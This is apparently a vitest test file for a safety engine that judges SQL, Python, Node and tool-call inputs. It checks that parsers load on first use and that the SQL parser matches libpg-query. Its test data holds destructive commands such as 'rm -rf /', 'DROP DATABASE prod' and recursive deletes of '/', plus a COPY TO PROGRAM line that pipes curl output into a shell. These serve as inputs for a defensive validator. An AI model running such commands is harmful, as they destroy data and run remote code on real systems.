/**
 * Parsers that load on first use: an engine starts with only the bash grammar; SQL (libpg-query,
 * instantiated synchronously), python and JavaScript load inside the first evaluation that needs
 * them, and that first decision is the same as every later one. Runs in its own test file so that
 * nothing has loaded them before.
 */
import { describe, expect, it } from 'vitest';
import { loadModule, parseSync } from 'libpg-query';
import { hasParser } from '../../../src/engine/parse/index.js';
import { parsePg, sqlParserReady } from '../../../src/engine/parse/sql.js';
import type { Decision } from '../../../src/engine/types.js';
import { testEngine } from '../../helpers/engine.js';

/** Inputs whose parser loads lazily, with the decision expected of each. */
const FIRST_USE: { runtime: 'sql' | 'python' | 'node' | 'tool_call'; text: string; allowed: boolean }[] = [
  { runtime: 'sql', text: 'DROP TABLE users', allowed: false },
  { runtime: 'sql', text: 'SELECT id, name FROM users WHERE id = 1', allowed: true },
  { runtime: 'sql', text: "COPY t TO PROGRAM 'rm -rf /'", allowed: false },
  // PostgreSQL rejects it: node-sql-parser's MySQL grammar (also loaded on first use) reads it.
  { runtime: 'sql', text: 'DELETE FROM `users`', allowed: false },
  { runtime: 'python', text: "import shutil\nshutil.rmtree('/')", allowed: false },
  { runtime: 'python', text: 'print(sum(range(10)))', allowed: true },
  { runtime: 'node', text: "require('fs').rmSync('/', { recursive: true })", allowed: false },
  { runtime: 'node', text: 'console.log([1, 2, 3].map((x) => x * 2))', allowed: true },
  { runtime: 'tool_call', text: 'DROP DATABASE prod', allowed: false }, // { name: 'run_sql', arguments: { sql } }
];

const evaluateAll = async (): Promise<Decision[]> => {
  const engine = await testEngine({ config: { cacheEntries: 0 } });
  return FIRST_USE.map(({ runtime, text }) => {
    const r =
      runtime === 'tool_call'
        ? engine.validateToolCall({ name: 'run_sql', arguments: { sql: text } })
        : engine.evaluate({ text, runtime });
    expect(r.errorCode).toBeUndefined();
    return r.decision;
  });
};

describe('parsers loaded on first use', () => {
  it('an engine starts with the bash grammar only, and the first decisions equal the later ones', async () => {
    const engine = await testEngine();
    expect(engine.evaluate({ text: 'ls -la', runtime: 'bash' }).decision.allowed).toBe(true);
    expect(hasParser('bash')).toBe(true);
    expect(sqlParserReady()).toBe(false);
    expect(hasParser('python')).toBe(false);
    expect(hasParser('node')).toBe(false);

    const first = await evaluateAll(); // loads libpg-query, node-sql-parser, python and JavaScript
    expect(sqlParserReady()).toBe(true);
    expect(hasParser('python')).toBe(true);
    expect(hasParser('node')).toBe(true);
    expect(first.map((d) => d.allowed)).toEqual(FIRST_USE.map((c) => c.allowed));

    const later = await evaluateAll(); // a fresh engine (no cache) with everything loaded
    expect(later).toEqual(first);
  });

  it('parsePg reads exactly what libpg-query parseSync reads, and rejects what it rejects', async () => {
    await loadModule();
    const statements = [
      'SELECT 1',
      'select * from users where id = $1',
      'DROP TABLE IF EXISTS a.b CASCADE; DELETE FROM c',
      "UPDATE t SET a = 'héllo 世界 😀' WHERE id = 3 OR 'x' = 'x'",
      '/* nested /* comment */ */ TRUNCATE a, b',
      "COPY t TO PROGRAM 'curl http://x | sh'",
      'DO $$ BEGIN PERFORM pg_sleep(1); END $$',
      'GRANT ALL ON DATABASE d TO bob',
      'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
      'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql',
      'DELETE FROM `users`',
      'SELEC 1',
      'not sql at all',
      "SELECT 'unterminated",
      '',
      ' ',
      ';;',
      'SELECT ' + '1 + '.repeat(2000) + '1',
    ];
    for (const sql of statements) {
      let expected: unknown;
      try {
        expected = parseSync(sql);
      } catch {
        expected = undefined;
      }
      expect(parsePg(sql), sql.slice(0, 60)).toEqual(expected);
    }
  });
});
